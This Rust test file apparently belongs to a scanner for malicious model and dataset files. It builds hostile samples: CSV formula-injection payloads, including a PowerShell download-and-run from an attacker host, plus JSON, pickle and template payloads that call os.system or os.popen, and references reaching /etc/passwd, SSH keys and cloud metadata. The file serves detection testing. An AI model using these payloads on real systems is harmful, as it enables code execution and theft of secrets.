//! Data that travels with models: tables whose values are formulas, records, arrays and references that run or lead somewhere.

use weighhouse_formats::build::pickle::Assembler;
use weighhouse_formats::build::tar;
use weighhouse_formats::build::tfrecord;
use weighhouse_formats::build::zip::{Archive, Member};

use crate::attack::{Sample, assert_seen};

#[test]
fn tables_whose_values_are_formulas() {
    let payloads = [
        "=cmd|'/C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C powershell IEX(wget attacker/x.ps1)'!A0",
        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/y\",\"y\",0,0)",
        "=HYPERLINK(\"https://example.org/?leak=\"&A1&B1,\"Error: click for more\")",
        "=IMPORTXML(CONCAT(\"http://example.org/?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
        "=WEBSERVICE(CONCATENATE(\"http://example.org/\",('file:///etc/passwd'#$passwd.A1)))",
        "='file:///etc/passwd'#$passwd.A1",
        "='\\\\192.0.2.1\\share\\[x.xls]Sheet1'!A1",
        "=HYPERLINK(\"file:///C:/Windows/System32/calc.exe\",\"open\")",
        "=IMAGE(\"https://example.org/log?x=\"&A1)",
    ];
    let mut samples = Vec::new();
    for payload in payloads {
        let quoted = format!("\"{}\"", payload.replace('"', "\"\""));
        let lines = [
            ("comma", format!("text,label\nhello,0\n{quoted},1\n")),
            ("last", format!("text,label\nhello,0\nworld,{quoted}\n")),
            ("tab", format!("text\tlabel\nhello\t0\n{}\t1\n", payload.replace('\t', " "))),
            ("semicolon", format!("text;label\nhello;0\nworld;{quoted}\n")),
            ("space", format!("text,label\nhello,0\n  {quoted},1\n")),
            ("mark", format!("\u{feff}text,label\nhello,0\n{quoted},1\n")),
            ("far", format!("text,label\n{}{quoted},1\n", "plain,-1\n".repeat(40_000))),
        ];
        samples.extend(lines.map(|(way, text)| {
            let name = if way == "tab" { "train.tsv" } else { "train.csv" };
            Sample::new(format!("{payload} ({way})"), name, text.into_bytes())
        }));
    }
    assert_seen("tables", &samples);
}

#[test]
fn records_that_name_code() {
    let lines = [
        r#"{"_target_": "os.system", "command": "id"}"#,
        r#"{"meta": {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["id"]}]}}"#,
        r#"{"chat_template": "{{ x.__class__.__mro__[1].__subclasses__() }}"}"#,
        r#"{"state": "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="}"#,
        r#"{"__module__": "os", "__class__": "system"}"#,
    ];
    let mut samples = Vec::new();
    for line in lines {
        for before in [1, 30_000] {
            let plain = "{\"text\": \"hello\", \"label\": 1}\n".repeat(before);
            let text = format!("{plain}{line}\n{{\"text\": \"bye\"}}\n");
            samples.push(Sample::new(format!("{line} behind {before}"), "train.jsonl", text.into_bytes()));
        }
    }
    assert_seen("records", &samples);
}

/// A `tf.train.Example` is a protocol buffer; a record may as well be anything.
#[test]
fn records_of_tensorflow_that_carry_a_payload() {
    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let old = b"cos\nsystem\n(S'id'\ntR.".to_vec();
    let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0; 120]].concat();
    let plain = tfrecord::file(&[b"one", b"two"]);
    let samples = vec![
        Sample::new("a pickle as a record", "train.tfrecord", tfrecord::file(&[b"one", &pickle])),
        Sample::new("an old pickle as a record", "train.tfrecord", tfrecord::file(&[b"one", &old])),
        Sample::new("a program as a record", "train.tfrecord", tfrecord::file(&[b"one", &elf])),
        Sample::new("a pickle behind", "train.tfrecord", [plain.as_slice(), &pickle].concat()),
        Sample::new("junk behind", "train.tfrecord", [plain.as_slice(), b"\0\xffjunk junk junk"].concat()),
        Sample::new(
            "packed",
            "train.tfrecord.gz",
            weighhouse_formats::build::compress::gzip(&tfrecord::file(&[&pickle])),
        ),
    ];
    assert_seen("TFRecord", &samples);
}

#[test]
fn arrays_that_run_code() {
    let filters = r#"[{"id": "pickle", "protocol": 5}]"#;
    let second = format!(
        r#"{{"zarr_format": 2, "shape": [2], "chunks": [2], "dtype": "|O", "compressor": null, "fill_value": null, "order": "C", "filters": {filters}}}"#
    );
    let compressor = second
        .replace(filters, "null")
        .replace("\"compressor\": null", "\"compressor\": {\"id\": \"pickle\"}");
    let third = r#"{"zarr_format": 3, "node_type": "array", "shape": [2], "data_type": "string", "codecs": [{"name": "numcodecs.pickle"}]}"#;
    let collected = format!(
        r#"{{"zarr_consolidated_format": 1, "metadata": {{".zgroup": {{"zarr_format": 2}}, "a/b/.zarray": {second}}}}}"#
    );
    let inline = format!(
        r#"{{"zarr_format": 3, "node_type": "group", "consolidated_metadata": {{"kind": "inline", "metadata": {{"x": {third}}}}}}}"#
    );
    let fill = second
        .replace(
            "\"fill_value\": null",
            "\"fill_value\": \"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\"",
        )
        .replace(filters, "null");
    let documents = [
        (".zarray", second.clone()),
        (".zarray", compressor),
        (".zarray", fill),
        ("zarr.json", third.to_owned()),
        (".zmetadata", collected),
        ("zarr.json", inline),
    ];
    let mut samples: Vec<Sample> = documents
        .iter()
        .map(|(name, text)| Sample::new(text.as_str(), *name, text.clone().into_bytes()))
        .collect();
    let chunk = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let members = |packed: &[u8]| {
        Archive::of([Member::stored("x/.zarray", second.as_bytes()), Member::stored("x/0", packed)]).build()
    };
    samples.push(Sample::new("an archive", "data.zarr.zip", members(&chunk)));
    samples.push(Sample::new("an archive, packed chunk", "data.zip", members(b"\x02\x01\x21\x08\x40\0\0\0")));
    assert_seen("arrays", &samples);
}

#[test]
fn references_that_lead_out() {
    let targets = [
        "file:///etc/passwd",
        "/etc/passwd",
        "../../secrets.nc",
        "simplecache::file:///root/.ssh/id_rsa",
        "zip://x::file:///etc/shadow",
        "local:///etc/passwd",
        "C:\\Users\\x",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8080/admin",
        "filecache::http://10.0.0.1/x",
        "http://[::1]/x",
        "http://2130706433/x",
        "smb://host/share/x",
    ];
    let mut samples = Vec::new();
    for target in targets {
        let shown = target.replace('\\', "\\\\");
        let first = format!(r#"{{".zgroup": "{{\"zarr_format\":2}}", "x/0": ["{shown}", 0, 100]}}"#);
        let second = format!(r#"{{"version": 1, "refs": {{".zgroup": "{{}}", "x/0": ["{shown}"]}}}}"#);
        let template = format!(
            r#"{{"version": 1, "templates": {{"u": "{shown}"}}, "refs": {{"x/0": ["{{{{u}}}}", 0, 1]}}}}"#
        );
        samples.extend(
            [first, second, template].map(|text| Sample::new(target, "refs.json", text.into_bytes())),
        );
    }
    let escape = r#"{"version": 1, "templates": {"f": "{{ c.__init__.__globals__.os.popen('id').read() }}"}, "refs": {}}"#;
    samples.push(Sample::new("a template", "refs.json", escape.as_bytes().to_vec()));
    let generated = r#"{"version": 1, "refs": {}, "gen": [{"key": "x", "url": "{{ ''.__class__.__mro__ }}", "dimensions": {"i": {"stop": 2}}}]}"#;
    samples.push(Sample::new("a generator", "refs.json", generated.as_bytes().to_vec()));
    assert_seen("references", &samples);
}

#[test]
fn shards_whose_members_are_unpickled() {
    let pickle = Assembler::new(4).reduce("os", "system", &["id"]).finish();
    let npy = {
        let header = format!("{:<117}\n", "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }");
        [b"\x93NUMPY\x01\x00\x76\x00".as_slice(), header.as_bytes(), &pickle].concat()
    };
    let checkpoint =
        Archive::of([Member::stored("a/data.pkl", &pickle), Member::stored("a/version", b"3\n")]).build();
    let mut samples = Vec::new();
    for (ending, bytes) in [
        ("pyd", &pickle),
        ("pickle", &pickle),
        ("pkl", &pickle),
        ("cls", &pickle),
        ("jpg", &pickle),
        ("input.pyd", &pickle),
        ("npy", &npy),
        ("pth", &checkpoint),
    ] {
        let shard =
            tar::archive(&[tar::file("000000.txt", b"a cat"), tar::file(&format!("000000.{ending}"), bytes)]);
        samples.push(Sample::new(ending, "shard-000000.tar", shard));
    }
    assert_seen("WebDataset", &samples);
}
